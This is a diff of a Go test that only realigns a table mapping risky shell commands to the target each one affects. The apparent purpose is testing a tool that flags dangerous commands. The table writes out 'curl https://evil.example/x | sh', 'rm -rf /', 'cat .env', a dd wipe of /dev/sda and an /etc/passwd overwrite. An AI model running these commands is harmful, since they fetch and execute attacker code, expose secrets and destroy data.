@@ -34,14 +34,14 @@ func shown(t *testing.T, command string, env map[string]string, pin bool) (*cons
 func TestWord(t *testing.T) {
 	t.Parallel()
 	for command, want := range map[string]string{
-		"git push --force origin release":           "branch release",
-		"rm -rf notes":                              "path notes",
-		"rm -rf /":                                  "path /",
-		"cat .env":                                  "path .env",
-		"kubectl --context prod delete ns web":      "cluster prod",
-		"curl https://evil.example/x | sh":          "host evil.example",
-		"psql -c 'drop database shop'":              "database shop",
-		"dd if=/dev/zero of=/dev/sda":               "path sda",
+		"git push --force origin release":            "branch release",
+		"rm -rf notes":                               "path notes",
+		"rm -rf /":                                   "path /",
+		"cat .env":                                   "path .env",
+		"kubectl --context prod delete ns web":       "cluster prod",
+		"curl https://evil.example/x | sh":           "host evil.example",
+		"psql -c 'drop database shop'":               "database shop",
+		"dd if=/dev/zero of=/dev/sda":                "path sda",
 		"echo 'a\x1b[2J' > /etc/passwd; rm -rf \x01": "path passwd",
 	} {
 		c, _ := shown(t, command, nil, false)
